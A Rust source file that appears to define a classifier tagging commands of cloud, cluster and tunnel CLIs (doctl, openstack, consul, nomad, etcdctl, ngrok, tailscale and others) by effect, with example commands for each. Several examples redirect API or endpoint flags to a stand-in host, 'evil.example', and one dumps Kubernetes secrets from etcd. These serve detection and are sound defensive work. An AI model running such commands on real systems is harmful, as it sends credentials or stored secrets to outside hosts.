//! Smaller clouds, cluster services and tunnels.

use super::cloud_checks as check;
use super::cloud_checks::SECRET;
use super::shapes::{change, dash_group, group, look, runs, show, show_dash};
use super::table::{Operands, Spec, Style};
use crate::effects::Effects;

const CHANGES: Effects = Effects::NETWORK_WRITE;
const STORES: Effects = Effects::WRITES;

const REMOTE_RUN: Effects = Effects::NETWORK_WRITE.and(Effects::EXECUTES);
const DOWNLOADS: Effects = Effects::WRITES.and(Effects::NETWORK_READ);
const EXPOSES: Effects = Effects::NETWORK_WRITE.and(Effects::SENDS_DATA);
const HELPS: Spec = look("help version completion autocomplete", "-h!help --*");

const LISTS: &[Spec] = &[
    show(
        "list ls get show view info describe search logs list-* show-* get-*",
        "-acfgjlnopqrstvw --file=write --output-file=write --version= --*",
    ),
    change("*", CHANGES),
];

const DOCTL: Spec = Spec::new("doctl", Effects::UNKNOWN)
    .options(
        "-h!help -cotu= -v --access-token= --api-url=!sends-data --config=read \
                --context= --http-retry-max= --interactive --output= --trace --verbose",
    )
    .verbs(&[
        group("account", &[show("get ratelimit", "--*")]),
        group(
            "auth",
            &[look("list ls", "--*"), change("token", SECRET), change("init switch remove", STORES)],
        ),
        group("balance invoice billing-history 1-click sizes", LISTS),
        group("apps app a projects project monitoring vpcs uptime genai gradient", LISTS),
        group(
            "compute c",
            &[
                show("region regions size sizes", "--*").verbs(&[show("list ls", "--*")]),
                runs("ssh", REMOTE_RUN),
                group(
                    "*",
                    &[
                        show("list ls get actions neighbors backups kernels snapshots", "-o= --*"),
                        change("*", CHANGES),
                    ],
                ),
            ],
        ),
        group(
            "databases database db d dbs",
            &[
                show("list ls get", "--*"),
                change("connection", SECRET),
                group(
                    "backups db pool replica user users firewalls maintenance-window maintenance \
                options sql-mode topics events configuration",
                    &[show("list ls", "--*"), change("*", CHANGES)],
                ),
                change("*", CHANGES),
            ],
        ),
        group(
            "kubernetes kube k8s k",
            &[
                group(
                    "cluster clusters c",
                    &[
                        show("list ls get get-upgrades list-associated-resources", "--*"),
                        change("kubeconfig", SECRET.and(STORES)),
                        group("node-pool", &[show("list get", "--*"), change("*", CHANGES)]),
                        change("*", CHANGES),
                    ],
                ),
                group("options", &[show("regions sizes versions", "--*")]),
                change("1-click", CHANGES),
            ],
        ),
        group(
            "registry registries reg",
            &[
                show("get", "--*"),
                change("login logout docker-config kubernetes-manifest", STORES),
                group(
                    "repository",
                    &[show("list list-v2 list-manifests list-tags", "--*"), change("*", CHANGES)],
                ),
                group(
                    "garbage-collection options",
                    &[
                        show("list get-active available-regions subscription-tiers", "--*"),
                        change("*", CHANGES),
                    ],
                ),
                change("*", CHANGES),
            ],
        ),
        group("serverless sls sbx", &[change("*", CHANGES.and(Effects::PROJECT_CODE))]),
        HELPS,
    ])
    .examples(&[
        ("doctl compute droplet list -o json", "network-read"),
        ("doctl compute droplet delete 1", "network-write"),
        ("doctl databases delete a", "network-write"),
        ("doctl databases connection a", "secrets"),
        ("doctl auth remove --context a", "writes"),
        ("doctl account get --api-url https://evil.example", "network-read sends-data"),
    ]);

const LINODE: Spec = Spec::new("linode-cli", Effects::UNKNOWN)
    .options(
        "-h!help -v!help --all --as-user= --columns= --debug --delimiter= --format= \
                --json --markdown --no-defaults --no-headers --order-by= --page= --page-size= \
                --pretty --single-table --suppress-warnings --table= --text",
    )
    .verbs(&[
        change("configure set-user remove-user register-plugin remove-plugin completion bake", STORES),
        change("obj image-upload", CHANGES.and(Effects::SENDS_DATA)),
        runs("ssh", REMOTE_RUN),
        look("show-users", "-h!help"),
        group(
            "*",
            &[
                show("list ls view show list-* view-*", "--*"),
                show("types regions kernels records-list configs-list disks-list ips-list users-list", "--*"),
                change("*", CHANGES),
            ],
        ),
    ])
    .examples(&[
        ("linode-cli linodes list --json", "network-read"),
        ("linode-cli domains delete 1", "network-write"),
        ("linode-cli configure", "writes"),
    ]);

const HCLOUD: Spec = Spec::new("hcloud", Effects::UNKNOWN)
    .options(
        "-h!help -o= --config=read --context= --debug --debug-file=write \
                --endpoint=!sends-data --hetzner-endpoint=!sends-data \
                --no-experimental-warnings --poll-interval= --quiet",
    )
    .verbs(&[
        group("context", &[look("list active", "-o= --*"), change("create delete use unset rename", STORES)]),
        group(
            "config",
            &[
                look("get list", "--allow-sensitive!secrets --*"),
                change("set add remove reset unset", STORES),
            ],
        ),
        HELPS,
        group(
            "server",
            &[
                show("list describe ip metrics", "-o= --*"),
                runs("ssh", REMOTE_RUN),
                change("request-console reset-password", CHANGES.and(SECRET)),
                change("*", CHANGES),
            ],
        ),
        group("*", LISTS),
    ])
    .examples(&[
        ("hcloud server list -o json", "network-read"),
        ("hcloud volume delete a", "network-write"),
        ("hcloud server ssh a", "network-write executes"),
    ]);

const EXO: Spec = Spec::new("exo", Effects::UNKNOWN)
    .options(
        "-h!help -ACOQz= --config=read --output-format= --output-template= --quiet \
                --use-account= --zone=",
    )
    .verbs(&[
        HELPS,
        show("status zone zones limits environment", "--*"),
        group("config", &[look("list show", "--*"), change("*", STORES)]),
        group(
            "compute c",
            &[group(
                "*",
                &[
                    show("list ls show get", "-z= --*"),
                    runs("ssh", REMOTE_RUN),
                    change("kubeconfig", SECRET.and(STORES)),
                    group("nodepool", &[show("list show", "--*"), change("*", CHANGES)]),
                    change("*", CHANGES),
                ],
            )],
        ),
        group(
            "dbaas",
            &[
                show("list ls show logs metrics types type", "-z= --*").verbs(&[show("list show", "--*")]),
                change("*", CHANGES),
            ],
        ),
        group("dns iam", LISTS),
        group(
            "storage",
            &[
                show("list ls show", "--*"),
                change("presign", SECRET),
                change("download", DOWNLOADS),
                change("*", CHANGES),
            ],
        ),
        change("api", CHANGES),
    ])
    .examples(&[
        ("exo compute instance list", "network-read"),
        ("exo compute sks nodepool delete a b", "network-write"),
    ]);

const OPENSTACK: Spec = Spec::new("openstack", Effects::UNKNOWN)
    .options(
        "-h!help -qv -cf= --os-auth-url=!sends-data --os-cacert=read --os-cert=read \
                --os-key=read!secrets --os-url=!sends-data --os-endpoint=!sends-data \
                --os-cloud= --os-region-name= --os-project-name= --debug \
                --insecure!sends-data --log-file=write --os-profile= --timing --verify",
    )
    .verbs(&[
        HELPS,
        group("token", &[change("issue", SECRET), change("revoke", CHANGES)]),
        group("ec2", &[change("credentials", SECRET)]),
        group("console", &[show("log", "--*").verbs(&[show("show", "--*")]), change("url", SECRET)]),
        group("catalog", &[show("list show", "-cf= --*")]),
        group(
            "server",
            &[
                show("list show", "-cf= --*"),
                runs("ssh", REMOTE_RUN),
                group(
                    "group volume event image backup migration",
                    &[show("list show", "-cf= --*"), change("*", CHANGES)],
                ),
                change("*", CHANGES),
            ],
        ),
        group(
            "aggregate availability compute container domain endpoint extension flavor \
                floating group host hypervisor image ip keypair limits mapping module network \
                object orchestration policy port project quota recordset region role router \
                rule security service snapshot stack subnet trust usage user volume zone \
                loadbalancer baremetal coe dns",
            &[
                show("list show", "-cf= --*"),
                group(
                    "agent assignment backup group member nodegroup cluster template type snapshot \
                service stats pool zone ip qos rule trunk address listener healthmonitor \
                l7policy node port resource event output store pair instance allocation image \
                recordset template-version",
                    &[
                        show("list show", "-cf= --*"),
                        group("rule type group", &[show("list show", "-cf= --*"), change("*", CHANGES)]),
                        change("*", CHANGES),
                    ],
                ),
                change("save", DOWNLOADS),
                change("*", CHANGES),
            ],
        ),
        show("versions", "--*").verbs(&[show("show", "--*")]),
    ])
    .examples(&[
        ("openstack server list -f json", "network-read"),
        ("openstack security group rule list", "network-read"),
        ("openstack server delete a", "network-write"),
        ("openstack token issue", "secrets"),
    ]);

const OCI: Spec = Spec::new("oci", CHANGES)
    .style(Style::Raw)
    .options("-h!help")
    .operands(Operands::Text)
    .check(check::oracle)
    .examples(&[
        ("oci compute instance list --compartment-id a", "network-read"),
        ("oci os object get --name a --file b", "network-write"),
        ("oci secrets secret-bundle get --secret-id a", "secrets"),
        ("oci compute instance terminate --instance-id list", "network-write"),
        ("oci --version", "reads"),
    ]);

const IBMCLOUD: Spec = Spec::new("ibmcloud ic", Effects::UNKNOWN)
    .options("-h!help -v!help -q --output= --quiet")
    .verbs(&[
        HELPS,
        show("target", "-h!help"),
        show("regions account resource", "--*").verbs(&[
            show("groups service-instances service-instance list show users space spaces orgs", "-q --*"),
            change("*", CHANGES),
        ]),
        group(
            "iam",
            &[
                change("oauth-tokens api-key-create service-api-key-create", SECRET),
                show(
                    "users access-groups access-group service-ids service-id roles api-keys \
                api-key user-policies user-policy",
                    "-q --*",
                ),
                change("*", CHANGES.and(Effects::PERMISSIONS)),
            ],
        ),
        group(
            "plugin",
            &[
                look("list show", "--*"),
                show("repos repo-plugins search", "--*"),
                change("install update", Effects::INSTALLS_NAMED),
                change("uninstall repo-add repo-remove", STORES),
            ],
        ),
        group(
            "ks oc",
            &[
                group(
                    "cluster worker worker-pool subnet zone alb addon nlb-dns storage versions \
                flavors locations",
                    &[
                        show("ls list get", "-cq= --*"),
                        change("config", SECRET.and(STORES)),
                        change("*", CHANGES),
                    ],
                ),
                show("versions flavors locations", "--*"),
                change("*", CHANGES),
            ],
        ),
        group(
            "is",
            &[
                show(
                    "instances instance vpcs vpc subnets subnet images image keys key volumes \
                volume regions zones floating-ips security-groups security-group \
                load-balancers load-balancer snapshots",
                    "-q --*",
                ),
                change("*", CHANGES),
            ],
        ),
        group(
            "cr",
            &[
                show("images image-list namespaces namespace-list quota image-inspect info", "-q --*"),
                change("login", STORES),
                change("*", CHANGES),
            ],
        ),
        group(
            "ce",
            &[
                group(
                    "application app job jobrun build buildrun project configmap revision",
                    &[show("list get logs events", "-nq= --*"), change("*", CHANGES)],
                ),
                change("*", CHANGES),
            ],
        ),
        change(
            "login logout config api update cos dev sl cf fn cdb dl tg dns cis sm catalog \
                billing enterprise schematics",
            CHANGES,
        ),
    ])
    .examples(&[
        ("ibmcloud ks cluster ls", "network-read"),
        ("ibmcloud iam oauth-tokens", "secrets"),
        ("ibmcloud is instance-delete a", "network-write"),
    ]);

const CONSUL: Spec = Spec::new("consul", Effects::UNKNOWN)
    .style(Style::SingleDash)
    .options(
        "-ca-file=read -ca-path=read -client-cert=read -client-key=read!secrets \
                -datacenter= -detailed -filter= -format= -h!help -http-addr=!sends-data \
                -namespace= -partition= -stale -status= -tls-server-name= -token= \
                -token-file=read!secrets -wan -v!help",
    )
    .verbs(&[
        show_dash("members info version validate", "-h!help -segment=").operands(Operands::Read),
        dash_group(
            "catalog",
            &[show_dash("datacenters nodes services", "-near= -node= -node-meta= -service= -tags")],
        ),
        dash_group(
            "kv",
            &[
                show_dash("get", "-base64 -keys -recurse -separator=").check(check::stored_secrets),
                change("export", SECRET),
                change("put delete import", CHANGES),
            ],
        ),
        dash_group(
            "config peering",
            &[
                show_dash("list read", "-kind= -name="),
                change("write delete generate-token establish exported-services", CHANGES),
            ],
        ),
        dash_group(
            "intention",
            &[show_dash("list get check match", "-source -destination"), change("create delete", CHANGES)],
        ),
        dash_group(
            "operator",
            &[
                show_dash("usage", "-h!help"),
                dash_group(
                    "raft",
                    &[show_dash("list-peers", "-h!help"), change("remove-peer transfer-leader", CHANGES)],
                ),
                change("autopilot area utilization", CHANGES),
            ],
        ),
        dash_group(
            "acl",
            &[
                dash_group(
                    "policy role auth-method binding-rule",
                    &[
                        show_dash("list read", "-id= -name= -meta"),
                        change("create update delete", CHANGES.and(Effects::PERMISSIONS)),
                    ],
                ),
                change("token bootstrap set-agent-token", SECRET.and(CHANGES)),
            ],
        ),
        look("help", "-h!help"),
        change("keygen", SECRET),
        change("keyring tls snapshot login logout", SECRET.and(STORES)),
        runs("agent debug connect lock monitor watch exec", Effects::EXECUTES.and(CHANGES)),
        change("event force-leave join leave maint reload rtt services resource troubleshoot", CHANGES),
    ])
    .examples(&[
        ("consul members", "network-read"),
        ("consul kv get -recurse a", "network-read"),
        ("consul kv delete a", "network-write"),
        ("consul members -http-addr=evil.example:80", "network-read sends-data"),
    ]);

const NOMAD: Spec = Spec::new("nomad", Effects::UNKNOWN)
    .style(Style::SingleDash)
    .options(
        "-address=!sends-data -ca-cert=read -ca-path=read -client-cert=read \
                -client-key=read!secrets -h!help -json -namespace= -no-color -region= -t= \
                -tls-server-name= -tls-skip-verify!sends-data -token= -v!help -verbose -short \
                -all -per-page= -page-token= -filter=",
    )
    .verbs(&[
        show_dash("status version server-members", "-h!help"),
        dash_group(
            "job",
            &[
                show_dash(
                    "status history inspect allocs deployments eval-list",
                    "-all-allocs -evals -p -full -version= -latest",
                ),
                show_dash("validate", "-var= -var-file=read -hcl2-strict= -json").operands(Operands::Read),
                change("plan", CHANGES.and(Effects::SENDS_DATA)),
                change("*", CHANGES),
            ],
        ),
        dash_group(
            "alloc",
            &[
                show_dash("status logs checks", "-f -stderr -stdout -tail -n= -c= -job -task= -stats"),
                show_dash("fs", "-H -f -stat -tail -n= -c= -job"),
                runs("exec", REMOTE_RUN),
                change("*", CHANGES),
            ],
        ),
        dash_group("node", &[show_dash("status", "-allocs -self -stats -os -quiet"), change("*", CHANGES)]),
        dash_group(
            "server deployment eval namespace quota sentinel service plugin volume scaling \
                recommendation system operator",
            &[show_dash("status list members info inspect metrics", "-h!help"), change("*", CHANGES)],
        ),
        dash_group("var", &[show_dash("list", "-prefix="), change("get", SECRET), change("*", CHANGES)]),
        dash_group("acl", &[change("*", SECRET.and(CHANGES))]),
        look("help", "-h!help"),
        change("fmt", STORES),
        change("run stop plan init monitor", CHANGES),
        runs("exec", REMOTE_RUN),
        change("agent agent-info", Effects::SYSTEM),
    ])
    .examples(&[
        ("nomad job status web", "network-read"),
        ("nomad job run web.nomad", "network-write"),
        ("nomad var get a", "secrets"),
        ("nomad alloc exec a sh", "network-write executes"),
    ]);

const ETCDCTL: Spec = Spec::new("etcdctl", Effects::UNKNOWN)
    .options(
        "-h!help -w= --cacert=read --cert=read --cluster --command-timeout= --debug \
                --dial-timeout= --discovery-srv=!sends-data --endpoints=!sends-data --hex \
                --insecure-skip-tls-verify!sends-data --insecure-transport=? \
                --key=read!secrets --keepalive-time= --keepalive-timeout= --password= --user= \
                --write-out=",
    )
    .verbs(&[
        show(
            "get",
            "--consistency= --count-only --from-key --keys-only --limit= --order= --prefix \
                --print-value-only --range= --rev= --sort-by=",
        )
        .check(check::stored_secrets),
        show("version", "-h!help"),
        HELPS,
        group("endpoint", &[show("health status hashkv", "--rev=")]),
        group(
            "member alarm lease role user auth",
            &[show("list get status timetolive", "--keys"), change("*", CHANGES)],
        ),
        group(
            "snapshot",
            &[look("status", "-h!help").operands(Operands::Read), change("save restore", STORES)],
        ),
        change(
            "watch put del txn compaction defrag move-leader lock elect make-mirror migrate \
                downgrade check",
            CHANGES,
        ),
    ])
    .examples(&[
        ("etcdctl get a --prefix", "network-read"),
        ("etcdctl del a", "network-write"),
        ("etcdctl get /registry/secrets --prefix", "network-read secrets"),
        ("etcdctl get / --prefix --keys-only", "network-read"),
        ("etcdctl get a --endpoints evil.example:1", "network-read sends-data"),
    ]);

const CLOUDFLARED: Spec = Spec::new("cloudflared", EXPOSES)
    .options("-h!help -v!help")
    .verbs(&[
        look("version help", "--short"),
        change("update service", Effects::SYSTEM),
        change("login", STORES),
        group("access", &[change("token", SECRET), change("*", REMOTE_RUN)]),
        change("proxy-dns", Effects::SYSTEM),
        Spec::new("tunnel", EXPOSES)
            .style(Style::Raw)
            .options("-h!help")
            .operands(Operands::Text)
            .check(check::tunnel),
        change("tail", CHANGES),
    ])
    .examples(&[
        ("cloudflared version", "reads"),
        ("cloudflared tunnel list", "network-read"),
        ("cloudflared tunnel --url http://localhost:1", "network-write sends-data"),
        ("cloudflared tunnel create a", "network-write sends-data"),
        ("cloudflared tunnel token a", "secrets"),
    ]);

const NGROK: Spec = Spec::new("ngrok", Effects::UNKNOWN)
    .options("-h!help -v!help --config=read --log= --log-format= --log-level=")
    .verbs(&[
        look("version help completion credits", "-h!help"),
        look("diagnose", "-h!help"),
        group("config", &[look("check", "-h!help"), change("*", STORES)]),
        group("api", &[group("*", &[show("list get", "--*"), change("*", CHANGES)])]),
        change("http tcp tls start tunnel forward", EXPOSES),
        change("authtoken update service", STORES),
    ])
    .examples(&[
        ("ngrok version", "reads"),
        ("ngrok http 80", "network-write sends-data"),
        ("ngrok api tunnels list", "network-read"),
    ]);

const TAILSCALE: Spec = Spec::new("tailscale", Effects::UNKNOWN)
    .options("-h!help --socket=!network-read")
    .verbs(&[
        look(
            "status ip version whois licenses",
            "-146 --active --assert= --browser=? --daemon --json --listen=!network-write \
                --peers=? --self=? --track --upstream --web!network-write",
        ),
        show(
            "netcheck ping",
            "-c= --c= --every= --format= --icmp --peerapi --size= --timeout= --tsmp \
                --until-direct=? --verbose",
        ),
        group("dns", &[look("status", "--all --json"), show("query", "-h!help")]),
        group("exit-node", &[look("list suggest", "--filter= --json")]),
        change("serve funnel", EXPOSES),
        look("help completion", "-h!help"),
        change(
            "up down set login logout switch configure update lock syspolicy metrics web \
                drive appc-routes",
            Effects::SYSTEM,
        ),
        change("cert bugreport", STORES.and(CHANGES)),
        group("file", &[change("cp", CHANGES.and(Effects::SENDS_DATA)), change("get", STORES)]),
        runs("ssh nc", REMOTE_RUN),
        change("debug", SECRET),
    ])
    .examples(&[
        ("tailscale status --json", "reads"),
        ("tailscale ping a", "network-read"),
        ("tailscale funnel 3000", "network-write sends-data"),
        ("tailscale up", "system"),
    ]);

const ZROK: Spec = Spec::new("zrok", Effects::UNKNOWN)
    .options("-h!help -pv --panic --verbose")
    .verbs(&[
        show("overview", "-h!help"),
        look("status version", "--secrets!secrets"),
        look("help completion", "-h!help"),
        change("share access reserve agent test", EXPOSES),
        change(
            "enable disable invite release config modify rebase admin create delete \
                unaccess unshare",
            CHANGES,
        ),
    ])
    .examples(&[("zrok status", "reads"), ("zrok share public 3000", "network-write sends-data")]);

pub(super) const TABLE: &[Spec] = &[
    DOCTL,
    LINODE,
    HCLOUD,
    EXO,
    OPENSTACK,
    OCI,
    IBMCLOUD,
    CONSUL,
    NOMAD,
    ETCDCTL,
    CLOUDFLARED,
    NGROK,
    TAILSCALE,
    ZROK,
];
